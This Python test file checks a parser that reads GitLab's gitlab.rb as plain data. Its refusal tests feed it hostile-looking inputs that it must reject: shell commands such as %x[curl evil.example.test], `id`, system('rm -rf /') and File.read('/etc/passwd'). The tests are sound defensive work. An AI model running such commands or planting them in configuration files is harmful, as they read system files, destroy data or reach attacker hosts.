"""gitlab.rb is read by a parser, never run: every form the real template uses, and refusals
that name the line."""

from __future__ import annotations

import pytest

from gitlab_ctl.config.gitlabrb import GitlabRbError, parse_gitlab_rb

FACTS = {"fqdn": "gitlab.example.test", "hostname": "gitlab"}

TEMPLATE_FORMS = """\
## GitLab configuration
external_url 'http://gitlab.example.test'
registry_external_url "https://registry.example.test"
roles ['redis_master_role', 'monitoring_role']   # trailing comment
gitlab_rails['time_zone'] = 'UTC'
gitlab_rails['gitlab_email_from'] = "gitlab@#{node['fqdn']}"
gitlab_rails['object_store']['objects']['lfs']['bucket'] = nil
gitlab_rails['backup_keep_time'] = 604_800
gitlab_rails['smtp_enable'] = false
gitlab_rails['max_request'] = 200 * 1024 * 1024
gitlab_rails['ratio'] = 0.9
gitlab_rails['offset'] = -1
gitlab_rails['trusted_proxies'] = %w(10.0.0.1 10.0.0.2)
nginx['listen_addresses'] = ['*', '[::]']
gitlab_pages['domain'] = 'pages.example.test'
gitlab_rails['pages_host'] = "#{Gitlab['gitlab_pages']['domain']}"
gitlab_rails['pages_copy'] = "x-#{gitlab_pages['domain']}-\\"y\\""
gitlab_rails['env'] = {
  'LANG' => 'C.UTF-8', # inline comment
  "SSL_CERT_DIR" => "/opt/gitlab/embedded/ssl/certs/",
}
gitaly['configuration'] = {
  socket_path: '/var/opt/gitlab/gitaly/gitaly.socket',
  storage: [
    { name: 'default', path: '/var/opt/gitlab/git-data/repositories' },
  ],
  'graceful_restart_timeout': '1m',
}
redis['save'] = [ '900 1', '300 10' ]
postgresql['shared_preload_libraries'] = :pg_stat_statements
gitlab_rails['ldap_servers'] = YAML.load <<-'EOS'
  main:
    label: 'LDAP'
    port: 389
EOS
puma['worker_processes'] = (2 + 2) * 3
"""


def test_every_form_of_the_template_parses_to_plain_data():
    settings = parse_gitlab_rb(TEMPLATE_FORMS, FACTS)
    rails = settings["gitlab_rails"]
    assert settings["external_url"] == "http://gitlab.example.test"
    assert settings["registry_external_url"] == "https://registry.example.test"
    assert settings["roles"] == ["redis_master_role", "monitoring_role"]
    assert rails["gitlab_email_from"] == "gitlab@gitlab.example.test"
    assert rails["object_store"] == {"objects": {"lfs": {"bucket": None}}}
    assert (rails["backup_keep_time"], rails["smtp_enable"]) == (604800, False)
    assert (rails["max_request"], rails["ratio"], rails["offset"]) == (209715200, 0.9, -1)
    assert rails["trusted_proxies"] == ["10.0.0.1", "10.0.0.2"]
    assert settings["nginx"]["listen_addresses"] == ["*", "[::]"]
    assert rails["pages_host"] == "pages.example.test"
    assert rails["pages_copy"] == 'x-pages.example.test-"y"'
    assert rails["env"] == {"LANG": "C.UTF-8", "SSL_CERT_DIR": "/opt/gitlab/embedded/ssl/certs/"}
    assert settings["gitaly"]["configuration"] == {
        "socket_path": "/var/opt/gitlab/gitaly/gitaly.socket",
        "storage": [{"name": "default", "path": "/var/opt/gitlab/git-data/repositories"}],
        "graceful_restart_timeout": "1m"}
    assert settings["redis"]["save"] == ["900 1", "300 10"]
    assert settings["postgresql"]["shared_preload_libraries"] == "pg_stat_statements"
    assert rails["ldap_servers"] == {"main": {"label": "LDAP", "port": 389}}
    assert settings["puma"]["worker_processes"] == 12


@pytest.mark.parametrize(("text", "line", "words"), [
    ("external_url 'http://x'\ngitlab_rails['a'] = `id`\n", 2, "backticks"),
    ("gitlab_rails['a'] = File.read('/etc/passwd')\n", 1, "method calls"),
    ("\n\nsystem('rm -rf /')\n", 3, "unknown setting 'system'"),
    ("gitlab_rail['time_zone'] = 'UTC'\n", 1, "unknown setting 'gitlab_rail'"),
    ("gitlab_rails['a'] = 1\ngitlab_rails['a']['b'] = 2\n", 2, "not a hash"),
    ("gitlab_rails['a'] = 'x' * 3\n", 1, "needs two numbers"),
    ("gitlab_rails['a'] = [1, 2\n", 2, "expected"),
    ("gitlab_rails['a'] = $stdin\n", 1, "global variables"),
    ("gitlab_rails['a'] = YAML.load <<-'EOS'\nx: 1\n", 1, "never closed"),
    ("nginx = 3\n", 1, "nginx['key'] = value"),
])
def test_anything_but_data_is_refused_with_its_line(text, line, words):
    with pytest.raises(GitlabRbError) as caught:
        parse_gitlab_rb(text, FACTS)
    assert caught.value.line == line
    assert words in caught.value.message + caught.value.hint


def test_a_misspelt_setting_gets_a_suggestion():
    with pytest.raises(GitlabRbError) as caught:
        parse_gitlab_rb("gitlab_rail['time_zone'] = 'UTC'\n")
    assert caught.value.hint == "did you mean 'gitlab_rails'?"


def test_integers_follow_ruby_with_a_leading_zero_meaning_octal():
    settings = parse_gitlab_rb("gitlab_rails['backup_archive_permissions'] = 0644\n"
                               "gitlab_rails['a'] = 0x1f\ngitlab_rails['b'] = 0\n"
                               "gitlab_rails['c'] = 0b101\ngitlab_rails['d'] = 0o17\n")
    assert settings["gitlab_rails"] == {"backup_archive_permissions": 0o644, "a": 31, "b": 0,
                                        "c": 5, "d": 15}
    with pytest.raises(GitlabRbError) as error:
        parse_gitlab_rb("\ngitlab_rails['a'] = 089\n")
    assert error.value.line == 2 and "not a valid number" in error.value.message


@pytest.mark.parametrize("text", ["external_url 'http://x.example.test'",
                                  "external_url 'http://x.example.test'; redis['port'] = 1",
                                  "# only a comment", ""])
def test_text_without_a_final_newline_parses(text):
    # GITLAB_OMNIBUS_CONFIG rarely ends with one, nor does a file saved by every editor
    settings = parse_gitlab_rb(text)
    assert settings.get("external_url") in (None, "http://x.example.test")


def refusal(text: str) -> GitlabRbError:
    with pytest.raises(GitlabRbError) as caught:
        parse_gitlab_rb(text, FACTS)
    return caught.value


@pytest.mark.parametrize(("text", "line", "message"), [
    ("external_url 'http://x'\ngitlab_rails['a'] = %x(id)\n", 2,
     "shell commands (%x) are not allowed in gitlab.rb: %x(..."),
    ("gitlab_rails['a'] = %x[curl evil.example.test]\n", 1, "shell commands (%x)"),
    ("external_url 'http://x'\ngitlab_rails['a'] = 'abc\n", 2, "unterminated string"),
    ("gitlab_rails['a'] = \"abc\n\n", 1, "unterminated string"),
    ("gitlab_rails['a'] = \"#{node['fqdn']}\n", 1, "unterminated string"),
    # The missing quote swallows the next line up to its first quote: named where it starts.
    ("gitlab_rails['a'] = 'abc\ngitlab_rails['b'] = 'x'\n", 1,
     "unterminated string: it runs on to line 2"),
    ("\npostgresql['synchronous_commit'] = on\n", 2, "unknown value 'on'"),
    ("gitlab_rails['a'] = %w[a b\n", 1, "unterminated word list %w["),
    ("external_url 'http://x'\ngitlab_rails['a'] = %w[a b\nredis['x'] = 1\n", 2,
     "unterminated word list %w["),
    ("nginx['a'] = %w[a b\nnginx['b']] = 1\n", 1,
     "unterminated word list %w[: it runs on to line 2"),
])
def test_broken_literals_are_named_for_what_they_are(text, line, message):
    error = refusal(text)
    assert (error.line, error.message[:len(message)]) == (line, message)
    assert error.hint


def test_a_bare_word_gets_a_hint_to_quote_it():
    assert refusal("postgresql['synchronous_commit'] = on\n").hint.startswith(
        "a string is written in quotes: 'on'")


@pytest.mark.parametrize("code", ["node['fqdn']; 1", "node['fqdn'].upcase", "1 + 1", "'x'",
                                  "node['fqdn'] + 'x'", "system('id')", "", "node",
                                  "node[gitlab_rails['a']]", "File.read('/etc/passwd')"])
def test_interpolation_of_anything_but_a_plain_reference_is_refused(code):
    error = refusal(f"\ngitlab_rails['a'] = \"x-#{{{code}}}\"\n")
    assert error.line == 2
    assert error.message.startswith("#{...} supports only a plain reference")


def test_interpolation_reads_facts_and_settings_with_any_key_form():
    settings = parse_gitlab_rb(
        "gitlab_pages['domain'] = 'pages.example.test'\n"
        "gitlab_rails['a'] = \"#{node[:fqdn]}|#{ node[\"hostname\"] }|#{Gitlab['gitlab_pages']"
        "['domain']}|#{gitlab_pages['none']}|#{gitlab_pages['domain']}\"\n", FACTS)
    assert settings["gitlab_rails"]["a"] == (
        "gitlab.example.test|gitlab|pages.example.test||pages.example.test")


def test_interpolating_an_array_is_refused_rather_than_written_as_python_would():
    error = refusal("nginx['a'] = ['x']\nnginx['b'] = \"#{nginx['a']}\"\n")
    assert (error.line, error.message) == (2, "#{...} of an array or a hash is not supported")


@pytest.mark.parametrize(("literal", "value"), [
    (r'"\u00e9"', "é"), (r'"\u{1F600}"', "\U0001F600"), (r'"\u{41 42}"', "AB"),
    (r'"\x41"', "A"), (r'"\xC3\xA9"', "é"), (r'"\101"', "A"), (r'"\0"', "\0"),
    (r'"\r\t\n\e\s"', "\r\t\n\x1b "), (r'"\q\#{x}"', "q#{x}"), ('"a\\\nb"', "ab"),
    (r"'\u00e9\n\\\''", "\\u00e9\\n\\'"), (r'"50% #1"', "50% #1"),
])
def test_escapes_mean_what_they_mean_in_ruby(literal, value):
    assert parse_gitlab_rb(f"gitlab_rails['a'] = {literal}\n")["gitlab_rails"]["a"] == value


@pytest.mark.parametrize(("literal", "message"), [
    (r'"\xE9"', "\\x or octal escapes that are not UTF-8 (e.g. \\xE9 alone)"),
    (r'"\u{110000}"', "invalid Unicode code point \\u{110000}"),
    (r'"\uZZ"', "invalid Unicode escape"), (r'"\x"', "invalid hex escape \\x"),
    (r'"\cA"', "the control and meta escape \\c is not supported"),
    ('"pa#@ss"', "'#@' inside double quotes interpolates a variable in Ruby"),
])
def test_escapes_ruby_would_read_otherwise_are_refused(literal, message):
    error = refusal(f"\ngitlab_rails['a'] = {literal}\n")
    assert (error.line, error.message) == (2, message)


def test_an_array_ending_in_pairs_holds_a_hash_as_in_ruby():
    settings = parse_gitlab_rb(
        "prometheus['scrape_configs'] = [\n"
        "  {\n"
        "    'job_name': 'example',\n"
        "    'static_configs' => [\n"
        "      'targets' => ['hostname:port'],\n"
        "    ],\n"
        "  },\n"
        "]\n"
        "nginx['a'] = [ 'k' => 1, 'j' => 2 ]\n"
        "nginx['b'] = [1, key: 'v', 'q': nil]\n")
    assert settings["prometheus"]["scrape_configs"] == [
        {"job_name": "example", "static_configs": [{"targets": ["hostname:port"]}]}]
    assert settings["nginx"] == {"a": [{"k": 1, "j": 2}], "b": [1, {"key": "v", "q": None}]}
    assert refusal("nginx['a'] = ['k' => 1, 2]\n").message.startswith("expected a hash key")


def test_word_lists_span_lines_nest_their_brackets_and_escape_spaces():
    settings = parse_gitlab_rb("nginx['a'] = %w(\n  10.0.0.1\n  (b) c\\ d\n)\n"
                               "nginx['b'] = %i[x y]\n")
    assert settings["nginx"] == {"a": ["10.0.0.1", "(b)", "c d"], "b": ["x", "y"]}


def test_a_heredoc_expands_as_ruby_does_unless_its_tag_is_single_quoted():
    settings = parse_gitlab_rb("gitlab_rails['a'] = YAML.load <<-EOS\n  host: \"#{node['fqdn']}\"\n"
                               "  tab: \"a\\tb\"\n  EOS\n", FACTS)
    assert settings["gitlab_rails"]["a"] == {"host": "gitlab.example.test", "tab": "a\tb"}
    settings = parse_gitlab_rb("gitlab_rails['a'] = YAML.load <<~'EOS'\n    main:\n"
                               "      password: 'a\\b#{x}'\n  EOS\n")
    assert settings["gitlab_rails"]["a"] == {"main": {"password": "a\\b#{x}"}}


def test_numbers_as_ruby_writes_them():
    settings = parse_gitlab_rb("nginx['a'] = 1e3\nnginx['b'] = 1.5e-3\nnginx['c'] = -7 / 2\n"
                               "nginx['d'] = \"#{nginx['a']}\"\n")
    assert settings["nginx"] == {"a": 1000.0, "b": 0.0015, "c": -4, "d": "1000.0"}
